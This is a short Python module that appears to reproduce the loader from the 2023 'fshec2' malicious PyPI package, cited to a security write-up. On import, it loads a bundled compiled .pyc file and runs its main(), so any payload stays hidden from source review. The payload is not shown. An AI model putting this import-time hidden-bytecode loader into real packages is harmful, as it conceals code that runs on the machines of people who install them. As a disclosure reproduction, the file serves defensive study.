# Incident: fshec2 (PyPI), April 2023: the importable module only loads and runs a bundled
# compiled file, so the payload never appears as source.
# Reference: https://www.reversinglabs.com/blog/when-python-bytecode-bites-back-who-checks-the-contents-of-compiled-python-files
# Reproduction (own code; full.pyc is compiled from own code with a placeholder host).
import os
from importlib._bootstrap_external import SourcelessFileLoader

__version__ = "0.1.3"


def _load_full():
    here = os.path.dirname(os.path.abspath(__file__))
    loader = SourcelessFileLoader("full", os.path.join(here, "full.pyc"))
    module = loader.load_module()
    return module


def get_path():
    return os.path.dirname(os.path.abspath(__file__))


_full = _load_full()
_full.main()
